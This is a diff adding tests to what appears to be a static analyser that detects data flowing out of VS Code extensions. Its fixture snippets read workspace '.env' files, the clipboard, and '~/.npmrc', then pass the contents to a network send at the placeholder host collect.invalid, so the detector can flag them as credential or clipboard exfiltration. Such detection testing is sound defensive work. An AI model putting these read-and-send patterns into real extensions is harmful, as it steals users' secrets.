@@ -1,4 +1,6 @@
 import assert from 'node:assert/strict';
+import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
+import { packageOf } from '../../../../support/artifacts.js';
 import { flowsOf } from './sent.js';
 
 const activated = (code: string): readonly string[] =>
@@ -17,6 +19,27 @@ describe('files by the hands of an editor', () => {
       assert.deepEqual(flows, [`${source}>network@collect.invalid`]);
     });
   }
+
+  it('are found by what is looked for, and so is what was copied', () => {
+    const each = `for (const f of await vscode.workspace.findFiles('**/.env')) { const b = await vscode.workspace.fs.readFile(f); ${SEND} }`;
+    assert.deepEqual(activated(each), ['credential-file>network@collect.invalid']);
+    assert.deepEqual(activated(each.replace('.env', '*.md')), []);
+    assert.deepEqual(activated(`const b = await vscode.env.clipboard.readText(); ${SEND}`), [
+      'clipboard>network@collect.invalid',
+    ]);
+  });
+
+  it('are read for whoever names them', () => {
+    const files = {
+      'index.js': `const { send } = require('./send'); exports.activate = () => { send([require('os').homedir() + '/.npmrc']); };`,
+      'send.js': `exports.send = async (list) => { const vscode = require('vscode'); for (const f of list) { const b = await vscode.workspace.fs.readFile(vscode.Uri.file(f)); ${SEND} } };`,
+    };
+    const { flows } = analysePackage(packageOf(files));
+    assert.deepEqual(
+      flows.map(({ source, sink }) => `${source}>${sink}`),
+      ['credential-file>network'],
+    );
+  });
 
   it('are the extension’s own otherwise', () => {
     const file = `vscode.Uri.joinPath(context.globalStorageUri, 'cache.json')`;
